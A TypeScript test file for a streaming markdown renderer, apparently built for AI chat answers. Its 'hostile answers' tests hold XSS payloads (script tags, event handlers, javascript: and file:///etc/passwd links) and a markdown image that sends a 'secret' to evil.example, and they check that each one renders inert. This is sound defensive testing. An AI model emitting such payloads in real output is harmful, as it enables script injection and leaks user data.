import { describe, expect, it } from "vitest";

import { blocksOf, GrowingMarkdown } from "./blocks";

const ANSWER = [
  "# Title",
  "Some *text* with `code` and a [link](https://example.org/a).",
  "- one\n- two\n  - nested",
  "| a | b |\n|---|---|\n| 1 | 2 |",
  "```rust\nfn main() {\n    println!(\"hi\");\n}\n```",
  "1. first\n\n   still first\n2. second",
  "para\n#tag\n***bold***",
  "1. a\n\n2. b\n\n3. c",
  "> quoted\n> text",
  "The end 👩‍👩‍👧.",
].join("\n\n");

describe("growing markdown", () => {
  it("shows the same at the end, however the text was split", () => {
    const whole = blocksOf(ANSWER);
    for (const size of [1, 2, 3, 7, 50]) {
      const growing = new GrowingMarkdown();
      let blocks = growing.update("");
      for (let end = size; end < ANSWER.length + size; end += size) {
        blocks = growing.update(ANSWER.slice(0, end));
      }
      expect(blocks, `pieces of ${size}`).toEqual(whole);
    }
  });

  it("keeps code as text, with its language", () => {
    expect(blocksOf("```ts\nlet a = '<b>';\n```")).toEqual([
      { kind: "code", language: "ts", text: "let a = '<b>';\n" },
    ]);
  });

  it("keeps the numbers of lists and the alignment of cells", () => {
    const [list] = blocksOf("3. c\n4. d");
    expect(list?.kind === "html" && list.html).toContain('start="3"');
    const [table] = blocksOf("| a |\n|--:|\n| 1 |");
    expect(table?.kind === "html" && table.html).toContain('<td class="right">1</td>');
  });

  it("starts again when the text is another one", () => {
    const growing = new GrowingMarkdown();
    growing.update("one\n\ntwo\n\nthree");
    expect(growing.update("other")).toEqual(blocksOf("other"));
  });
});

describe("hostile answers", () => {
  const html = (source: string) =>
    blocksOf(source)
      .map((block) => (block.kind === "html" ? block.html : ""))
      .join("");

  it("run nothing and load nothing", () => {
    const hostile = [
      "<script>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      "<svg onload=alert(1)><math><style>*{}</style></math></svg>",
      "<iframe srcdoc='<script>1</script>'></iframe>",
      "<base href=https://evil.example><meta http-equiv=refresh content=0>",
      "<form action=https://evil.example><input name=a></form>",
      "[a](javascript:alert(1)) [b](vbscript:x) [c](data:text/html,x) [d](file:///etc/passwd)",
      "![a](https://evil.example/?q=secret)",
      "[r]: javascript:alert(1)\n\n[r]",
      "<https://ok.example>",
    ];
    for (const source of hostile) {
      const element = document.createElement("div");
      element.innerHTML = html(source);
      const live = element.querySelectorAll("script,img,svg,math,style,iframe,base,meta,form,input,link");
      expect(live.length, source).toBe(0);
      for (const anchor of element.querySelectorAll("a")) {
        expect(anchor.getAttribute("href") ?? "", source).toMatch(/^https?:|^mailto:|^$/);
      }
    }
  });

  it("show where a remote image would have come from", () => {
    expect(html("![cat](https://evil.example/a.png)")).toContain("evil.example");
  });
});
